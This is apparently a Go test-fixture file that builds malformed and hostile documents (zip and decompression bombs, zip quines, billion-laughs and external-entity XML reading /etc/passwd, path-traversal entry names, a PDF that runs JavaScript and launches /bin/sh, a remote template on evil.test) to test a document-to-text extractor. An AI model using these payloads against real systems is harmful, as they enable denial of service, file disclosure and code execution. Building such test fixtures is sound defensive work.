package main

import (
	"archive/zip"
	"bytes"
	"encoding/base64"
	"fmt"
	"hash/crc32"
	"strings"
)

// A brokenFile is a seed that is damaged, wrongly named, overgrown or hostile.
type brokenFile struct {
	name, data string
	want       string // asText, asEither or refused
	says       string // words of its text, or of the error that names it
}

// zipped returns a zip of names and contents in turn.
func zipped(parts ...string) string {
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for i := 0; i < len(parts); i += 2 {
		method := zip.Deflate
		if parts[i] == "mimetype" {
			method = zip.Store
		}
		f, err := w.CreateHeader(&zip.FileHeader{Name: parts[i], Method: method})
		if err != nil {
			panic(err)
		}
		f.Write([]byte(parts[i+1]))
	}
	w.Close()
	return b.String()
}

const (
	xmlHead     = `<?xml version="1.0" encoding="UTF-8"?>`
	docxTypes   = xmlHead + `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`
	docxRels    = xmlHead + `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`
	docxOpen    = `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>`
	docxClose   = `</w:body></w:document>`
	odtOpen     = `<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:text>`
	odtClose    = `</office:text></office:body></office:document-content>`
	odtType     = "application/vnd.oasis.opendocument.text"
	epubType    = "application/epub+zip"
	laughs      = `<!DOCTYPE lolz [<!ENTITY a "haha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;"><!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;"><!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;">]>`
	external    = `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>`
	plainWords  = "The harbour opens in May."
	mailHeader  = "From: Jo <jo@example.org>\r\nTo: all@example.org\r\nDate: Mon, 3 Mar 2025 10:00:00 +0000\r\nMIME-Version: 1.0\r\n"
	turned      = "pay \u202e001\u202c now\u200b \u2066x\u2069 s\u00adoft\ufeff"
	turnedBytes = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200b\u2060\ufeff"
)

func para(s string) string { return "<w:p><w:r><w:t>" + s + "</w:t></w:r></w:p>" }

// docx returns a Word document; more are further entries of its archive.
func docx(prolog, body string, more ...string) string {
	return zipped(append([]string{"[Content_Types].xml", docxTypes, "_rels/.rels", docxRels, "word/document.xml", xmlHead + prolog + docxOpen + body + docxClose}, more...)...)
}

func odt(prolog, body string, more ...string) string {
	return zipped(append([]string{"mimetype", odtType, "content.xml", xmlHead + prolog + odtOpen + body + odtClose}, more...)...)
}

func epub(rootfile, prolog, body string) string {
	return zipped("mimetype", epubType,
		"META-INF/container.xml", xmlHead+`<container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="`+rootfile+`" media-type="application/oebps-package+xml"/></rootfiles></container>`,
		"book.opf", xmlHead+`<package xmlns="http://www.idpf.org/2007/opf" version="3.0"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>A book</dc:title></metadata><manifest><item id="a" href="a.xhtml" media-type="application/xhtml+xml"/></manifest><spine><itemref idref="a"/></spine></package>`,
		"a.xhtml", xmlHead+prolog+`<html xmlns="http://www.w3.org/1999/xhtml"><head><title>A</title></head><body>`+body+`</body></html>`)
}

// pdf returns a PDF of the objects given, numbered from 1, the first its root.
func pdf(trailer string, objects ...string) string {
	var b strings.Builder
	b.WriteString("%PDF-1.4\n")
	at := make([]int, len(objects))
	for i, o := range objects {
		at[i] = b.Len()
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	start := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(objects)+1)
	for _, n := range at {
		fmt.Fprintf(&b, "%010d 00000 n \n", n)
	}
	fmt.Fprintf(&b, "trailer\n<</Root 1 0 R/Size %d%s>>\nstartxref\n%d\n%%%%EOF\n", len(objects)+1, trailer, start)
	return b.String()
}

// pdfPage returns a PDF of one page with those words.
func pdfPage(words, root, trailer string) string {
	stream := "BT /F1 12 Tf 72 700 Td (" + words + ") Tj ET"
	return pdf(trailer, "<</Type/Catalog/Pages 2 0 R"+root+">>", "<</Type/Pages/Kids[3 0 R]/Count 1>>",
		"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
		fmt.Sprintf("<</Length %d>>stream\n%s\nendstream", len(stream), stream), "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>")
}

// overlapping returns a zip whose directory names one packed entry many times.
func overlapping(n, size int) string {
	one := zipped("x", strings.Repeat("\x00", size))
	dir := strings.Index(one, "PK\x01\x02")
	end := strings.Index(one, "PK\x05\x06")
	var b bytes.Buffer
	b.WriteString(one[:dir])
	for range n {
		b.WriteString(one[dir:end])
	}
	le := func(v, bytes int) (s string) {
		for range bytes {
			s, v = s+string([]byte{byte(v)}), v>>8
		}
		return s
	}
	b.WriteString("PK\x05\x06\x00\x00\x00\x00" + le(n, 2) + le(n, 2) + le(n*(end-dir), 4) + le(dir, 4) + "\x00\x00")
	return b.String()
}

// nested wraps a mail in n mails.
func nested(n int) string {
	mail := mailHeader + "Subject: inner\r\n\r\n" + plainWords + "\r\n"
	for i := range n {
		mail = mailHeader + fmt.Sprintf("Subject: level %d\r\nContent-Type: multipart/mixed; boundary=\"b%d\"\r\n\r\n--b%d\r\nContent-Type: text/plain\r\n\r\nLevel %d is here.\r\n--b%d\r\nContent-Type: message/rfc822\r\nContent-Disposition: attachment; filename=\"m.eml\"\r\n\r\n", i, i, i, i, i) + mail + fmt.Sprintf("\r\n--b%d--\r\n", i)
	}
	return mail
}

// mailWith returns a mail with one attachment.
func mailWith(name, data string) string {
	return mailHeader + "Subject: With a file\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\n" + plainWords + "\r\n--b\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n" +
		"Content-Disposition: attachment; filename=\"" + name + "\"\r\n\r\n" + base64.StdEncoding.EncodeToString([]byte(data)) + "\r\n--b--\r\n"
}

// whole returns a sound file of each format with text of some length.
func whole() []brokenFile {
	var paragraphs, html, word, text string
	for i := range 40 {
		s := fmt.Sprintf("Paragraph %d says that berth %d of the harbour is open. %08x", i, i, crc32.ChecksumIEEE([]byte{byte(i)}))
		paragraphs += s + "\n\n"
		html += "<p>" + s + "</p>"
		word += para(s)
		text += "<text:p>" + s + "</text:p>"
	}
	return []brokenFile{
		{name: "cut.txt", data: paragraphs}, {name: "cut.md", data: "---\ntitle: T\n---\n# T\n\n" + paragraphs}, {name: "cut.html", data: "<!doctype html><html><body>" + html + "</body></html>"},
		{name: "cut.eml", data: mailWith("a.docx", docx("", word))}, {name: "cut.mbox", data: "From jo@example.org Mon Mar  3 10:00:00 2025\n" + mailHeader + "Subject: T\n\n" + paragraphs},
		{name: "cut.docx", data: docx("", word)}, {name: "cut.odt", data: odt("", text)}, {name: "cut.epub", data: epub("book.opf", "", html)},
		{name: "cut.rtf", data: `{\rtf1\ansi ` + strings.ReplaceAll(paragraphs, "\n\n", `\par `) + "}"}, {name: "cut.pdf", data: pdfPage(plainWords, "", "")}, {name: "cut-packed.pdf", data: packedPDF(plainWords)},
	}
}

// brokenFiles returns all of them.
func brokenFiles() []brokenFile {
	var all []brokenFile
	for _, f := range whole() {
		for i := 1; i < 16; i++ {
			base, ext, _ := strings.Cut(f.name, ".")
			all = append(all, brokenFile{fmt.Sprintf("%s-%02d.%s", base, i, ext), f.data[:len(f.data)*i/16], asEither, ""})
		}
	}
	for _, ext := range []string{"txt", "md", "html", "eml", "mbox", "docx", "odt", "epub", "rtf", "pdf"} {
		all = append(all, brokenFile{"empty/a." + ext, "", refused, ""}, brokenFile{"nothing/a." + ext, "\ufeff \r\n\t\n", refused, ""},
			brokenFile{"noise/a." + ext, strings.Repeat("\x00\x01\xfe\xff\x80", 999), asEither, ""})
	}
	return append(append(append(all, overgrown()...), wrongFiles()...), archives()...)
}

// overgrown are files that are large, or become so.
func overgrown() []brokenFile {
	const many = 100_000
	line := strings.Repeat("The port is open. ", 50<<20/18)
	deep := func(n int, open, text, shut string) string {
		return strings.Repeat(open, n) + text + strings.Repeat(shut, n)
	}
	return []brokenFile{
		{"big/line.txt", line, refused, "more than 20971520 bytes of text"},
		{"big/line.md", line, refused, "more than"},
		{"big/line.html", "<!doctype html><p>" + line[:40<<20], asEither, ""},
		{"big/line.eml", mailHeader + "Subject: a\r\n\r\n" + line[:40<<20], refused, "more than 20971520 bytes of text"},
		{"big/over.txt", line + line[:1<<20], refused, "more than 52428800 bytes"},
		{"many/paragraphs.txt", strings.Repeat(plainWords+"\n\n", many), asText, plainWords},
		{"many/paragraphs.html", "<!doctype html><body>" + strings.Repeat("<p>"+plainWords+"</p>", many), asText, plainWords},
		{"many/paragraphs.docx", docx("", strings.Repeat(para(plainWords), many)), asEither, ""},
		{"many/paragraphs.rtf", `{\rtf1 ` + strings.Repeat(plainWords+`\par `, many) + "}", asText, plainWords},
		{"many/headings.md", strings.Repeat("# Same\n\n", 30_000), asEither, ""},
		{"many/links.html", "<!doctype html><body>" + strings.Repeat(`<p><a href="https://example.org/">here</a> it is.</p>`, 20_000), asEither, ""},
		{"many/cells.html", "<!doctype html><body><table>" + strings.Repeat("<tr>"+strings.Repeat("<td>x</td>", 500)+"</tr>", 500) + "</table><p>" + plainWords, asEither, ""},
		{"many/mails.mbox", strings.Repeat("From jo@example.org Mon Mar  3 10:00:00 2025\n"+mailHeader+"\nWords.\n\n", 501), refused, "more than 500 mails"},
		{"many/parts.eml", mailHeader + "Content-Type: multipart/mixed; boundary=b\r\n\r\n" + strings.Repeat("--b\r\n\r\nx\r\n", many), refused, "more than 500 parts"},
		{"many/headers.eml", strings.Repeat("X-Line: of no use\r\n", many) + mailHeader + "Subject: a\r\n\r\n" + plainWords, asText, plainWords},
		{"many/pages.pdf", pdf("", "<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids["+strings.Repeat("3 0 R ", 2001)+"]/Count 2001>>", "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"), asEither, ""},
		{"many/entities.html", "<!doctype html><p>" + strings.Repeat("&nbsp;&NotEqualTilde;", many) + plainWords, asEither, ""},
		{"deep/lists.html", "<!doctype html>" + deep(1000, "<ul><li>x", "deep", "</ul>"), asEither, ""},
		{"deep/lists.md", deep(1000, "- ", "deep", ""), refused, "nested more than 400 deep"},
		{"deep/quotes.md", deep(10_000, ">", " deep", ""), refused, "nested more than 400 deep"},
		{"deep/lists.odt", odt("", deep(1000, "<text:list><text:list-item>", "<text:p>deep</text:p>", "</text:list-item></text:list>")), asEither, ""},
		{"deep/elements.docx", docx("", deep(10_000, "<w:sdt>", para("deep"), "</w:sdt>")), asEither, ""},
		{"deep/elements.html", "<!doctype html>" + deep(100_000, "<div>", plainWords, "</div>"), asText, plainWords},
		{"deep/fonts.html", "<!doctype html><body>" + deep(20_000, "<font><b><i>", plainWords, ""), asEither, ""},
		{"deep/groups.rtf", `{\rtf1 ` + deep(50_000, "{", plainWords, "}") + "}", asEither, ""},
		{"deep/mail.eml", nested(30), asEither, "more than 10 documents within one another"},
		{"deep/multipart.eml", mailHeader + deep(2000, "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n", "\r\nx", ""), refused, ""},
		{"huge/attribute.html", `<!doctype html><body><p title="` + line[:8<<20] + `">` + plainWords, asText, plainWords},
		{"huge/attribute.docx", docx("", `<w:p w:rsid="`+line[:8<<20]+`"><w:r><w:t>`+plainWords+`</w:t></w:r></w:p>`), asEither, ""},
		{"huge/comment.html", "<!doctype html><body><!-- " + line[:8<<20] + " --><p>" + plainWords, asText, plainWords},
		{"huge/subject.eml", mailHeader + "Subject: " + line[:4<<20] + "\r\n\r\n" + plainWords, asEither, ""},
		{"huge/word.txt", strings.Repeat("w", 8<<20), asEither, ""},
		{"huge/number.rtf", `{\rtf1 \bin99999999999 \u-99999999999 \fs99999999999999999999 ` + plainWords + "}", asEither, ""},
	}
}

// wrongFiles are files that are not what they say, or say what they should not.
func wrongFiles() []brokenFile {
	return []brokenFile{
		{"named/pdf.txt", pdfPage(plainWords, "", ""), asText, plainWords},
		{"named/docx.pdf", docx("", para(plainWords)), asText, plainWords},
		{"named/html.docx", "<!doctype html><body><p>" + plainWords, asText, plainWords},
		{"named/rtf.docx", `{\rtf1 ` + plainWords + `\par}`, asText, plainWords},
		{"named/text.pdf", plainWords, refused, ""},
		{"named/text.docx", plainWords, refused, ""},
		{"named/mail.txt", "Received: from a by b\r\nMessage-ID: <1@example.org>\r\n" + mailHeader + "Subject: a\r\n\r\n" + plainWords, asText, plainWords},
		{"named/picture.txt", "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", refused, "unsupported format"},
		{"named/program.md", "\x7fELF\x02\x01\x01" + strings.Repeat("\x00", 60), refused, "unsupported format"},
		{"named/packed.html", "\x1f\x8b\x08\x00\x00\x00\x00\x00", refused, "unsupported format"},
		{"named/nothing", plainWords + " It has no ending.", asText, plainWords},
		{"bytes/nul.txt", "NUL\x00 in the words. " + strings.Repeat(plainWords+" ", 9), asText, plainWords},
		{"bytes/nul.eml", mailHeader + "Subject: a\x00b\r\n\r\nA \x00 NUL. " + strings.Repeat(plainWords+" ", 9), asText, plainWords},
		{"bytes/nul.html", "<!doctype html><body><p>A \x00 NUL. " + strings.Repeat(plainWords+" ", 9), asText, plainWords},
		{"bytes/invalid.txt", strings.Repeat("é ", 20) + "\xff\xfe é. " + plainWords, refused, "unreadable characters: byte 60"},
		{"bytes/invalid.html", "<!doctype html><body><p>é é é é é \xff é. " + plainWords, asText, plainWords},
		{"bytes/invalid.eml", mailHeader + "Subject: a\r\nContent-Type: text/plain; charset=utf-8\r\n\r\né é é é é \xff é. " + plainWords, asText, plainWords},
		{"bytes/odd16.txt", "\xff\xfea\x00b\x00c", asEither, ""},
		{"bytes/surrogate16.txt", "\xff\xfea\x00\x00\xd8b\x00", asEither, ""},
		{"bytes/charset.eml", mailHeader + "Subject: a\r\nContent-Type: text/plain; charset=x-none\r\n\r\n" + plainWords, asText, plainWords},
		{"encrypted/aes.pdf", pdf("/Encrypt 4 0 R/ID[<00><00>]", "<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>", "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
			"<</Filter/Standard/V 2/R 3/Length 128/P -4/O<"+strings.Repeat("ab", 32)+">/U<"+strings.Repeat("cd", 32)+">>>"), refused, ""},
		{"encrypted/user.pdf", lockedPDF(plainWords, "secret", "other"), refused, "encrypted: a password is needed"},
		{"encrypted/owner.pdf", lockedPDF(plainWords, "", "other"), asText, plainWords},
		{"encrypted/ole.docx", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + strings.Repeat("\x00", 600) + "E\x00n\x00c\x00r\x00y\x00p\x00t\x00e\x00d\x00P\x00a\x00c\x00k\x00a\x00g\x00e\x00", refused, "encrypted"},
		{"pdf/bomb.pdf", carrierPDF(plainWords, "a.txt", strings.Repeat("a", 300<<20)), asText, plainWords},
		{"pdf/large.pdf", carrierPDF(plainWords, "a.txt", strings.Repeat("a", 60<<20)), asText, plainWords},
		{"pdf/large.pdf!/a.txt", "", refused, "more than 52428800 bytes"},
		{"pdf/carrier.pdf", carrierPDF(plainWords, "../../x.docx", docx("", para("It travelled in a PDF."))), asText, plainWords},
		{"pdf/carrier.pdf!/x.docx", "", asText, "It travelled in a PDF."},
		{"pdf/packed.pdf", packedPDF(plainWords), asText, plainWords},
		{"pdf/empty.pdf", pdf("", "<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>", "<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>"), refused, ""},
		{"pdf/loop.pdf", pdf("", "<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[2 0 R]/Count 999999999>>"), refused, ""},
		{"pdf/acts.pdf", pdfPage(plainWords, "/OpenAction<</S/JavaScript/JS(app.alert(1))>>/AA<</WC<</S/Launch/F(/bin/sh)>>>>", ""), asText, plainWords},
		{"pdf/lies.pdf", strings.Replace(pdfPage(plainWords, "", ""), "/Length ", "/Length 99999", 1), asEither, ""},
		{"pdf/turned.pdf", pdfPage(plainWords, "", "/Info<</Title(\xfe\xff\x00a\x20\x2e\x00b)/Author(\xfe\xff\x20\x66\x00c)>>"), asText, plainWords},
		{"turned/a.html", "<!doctype html><html><head><title>" + turned + "</title><meta name=author content=\"" + turned + "\"></head><body><p>" + plainWords + turned + "<a href=\"https://example.org/" + turned + "\">there</a>", asText, plainWords},
		{"turned/a.md", "---\ntitle: \"" + turned + "\"\nauthor: \"" + turned + "\"\n---\n" + plainWords + " [" + turned + "](https://example.org/" + turned + ")\n", asText, plainWords},
		{"turned/a.eml", mailWith(turned+".txt", plainWords+" It came with the mail.") + "\r\nSubject: " + turned + "\r\n", asText, plainWords},
		{"turned/a.docx", docx("", para(plainWords+turned), "docProps/core.xml", xmlHead+`<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>`+turned+`</dc:title><dc:creator>`+turned+`</dc:creator></cp:coreProperties>`), asText, plainWords},
		{"turned/a.rtf", `{\rtf1{\info{\title a\u8238?b}}` + plainWords + ` \u8238?x\u8236?\par}`, asText, plainWords},
		{"mail/slip.eml", mailWith("../../../../etc/cron.d/x.txt", plainWords+" It slipped."), asText, plainWords},
		{"mail/same.eml", strings.Replace(mailWith("a.txt", "One file here."), "--b--", "--b\r\nContent-Type: text/plain\r\nContent-Disposition: attachment; filename=A.TXT\r\n\r\nAnother file there.\r\n--b--", 1), asText, plainWords},
		{"mail/tnef.eml", mailWith("winmail.dat", "\x78\x9f\x3e\x22\x01\x00"), asText, plainWords},
		{"mail/bomb.eml", mailWith("bomb.docx", docx("", para(strings.Repeat("a", 70<<20)))), asText, plainWords},
		{"mail/quine.eml", mailWith("quine.docx", quine()), asText, plainWords},
		{"mail/none.eml", "just some words without any header\r\nat all", asText, "without any header"},
		{"mail/prefix.eml", mailHeader + "Subject: a\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: multipart/alternative; boundary=bb\r\n\r\n--bb\r\n\r\n" + plainWords + "\r\n--bb--\r\n--b--\r\n", asText, plainWords},
		{"mail/empty.mbox", "From jo@example.org Mon Mar  3 10:00:00 2025\n\n", refused, "holds no text"},
	}
}

// archives are files of the zipped formats that try something.
func archives() []brokenFile {
	bad := docx("", para(plainWords))
	return []brokenFile{
		{"zip/bomb.docx", docx("", para(strings.Repeat("a", 60<<20))), refused, "more than"},
		{"zip/bomb.odt", odt("", "<text:p>"+strings.Repeat("a", 60<<20)+"</text:p>"), refused, "more than"},
		{"zip/bomb.epub", epub("book.opf", "", "<p>"+strings.Repeat("a", 60<<20)+"</p>"), refused, "more than"},
		{"zip/quine.docx", quine(), refused, "word/document.xml"},
		{"zip/overlapping.docx", overlapping(5001, 1<<20), refused, ""},
		{"zip/entries.docx", docx("", para(plainWords), strings.Split(strings.Repeat("x,,", 6000), ",")[:12000]...), refused, "more than 5000"},
		{"zip/within.docx", zipped("a.docx", zipped("a.docx", zipped("a.docx", docx("", para(plainWords))))), refused, ""},
		{"zip/slip.docx", docx("", para(plainWords), "../../../evil.txt", "x", "/etc/evil", "x", `..\..\evil`, "x"), asText, plainWords},
		{"zip/slip.epub", epub("../../../../etc/passwd", "", "<p>"+plainWords), refused, ""},
		{"zip/twice.docx", docx("", para(plainWords), "word/document.xml", xmlHead+docxOpen+para("Other words.")+docxClose), asEither, ""},
		{"zip/crc.docx", strings.Replace(bad, bad[14:18], "\x01\x02\x03\x04", 1), asEither, ""},
		{"zip/macro.docx", docx("", para(plainWords), "word/vbaProject.bin", "Shell \"rm\""), asText, plainWords},
		{"zip/remote.docx", docx("", para(plainWords), "word/_rels/settings.xml.rels", xmlHead+`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.test/t.dotm" TargetMode="External"/></Relationships>`), asText, plainWords},
		{"xml/laughs.docx", docx(laughs, para("&h;")), asEither, ""},
		{"xml/laughs.odt", odt(laughs, "<text:p>&h;</text:p>"), asEither, ""},
		{"xml/laughs.epub", epub("book.opf", laughs, "<p>&h; "+plainWords+"</p>"), asEither, ""},
		{"xml/laughs.html", laughs + "<html><body><p>&h; " + plainWords, asEither, ""},
		{"xml/external.docx", docx(external, para("&a;")), asEither, ""},
		{"xml/external.odt", odt(external, "<text:p>&a;</text:p>"), asEither, ""},
		{"xml/external.epub", epub("book.opf", external, "<p>&a; "+plainWords+"</p>"), asEither, ""},
		{"xml/unclosed.docx", docx("", "<w:p><w:r><w:t>"+plainWords), asEither, ""},
		{"xml/nothing.docx", docx("", ""), refused, "holds no text"},
		{"xml/missing.docx", zipped("[Content_Types].xml", docxTypes), refused, ""},
		{"xml/missing.epub", zipped("mimetype", epubType), refused, ""},
		{"xml/missing.odt", zipped("mimetype", odtType), refused, ""},
	}
}
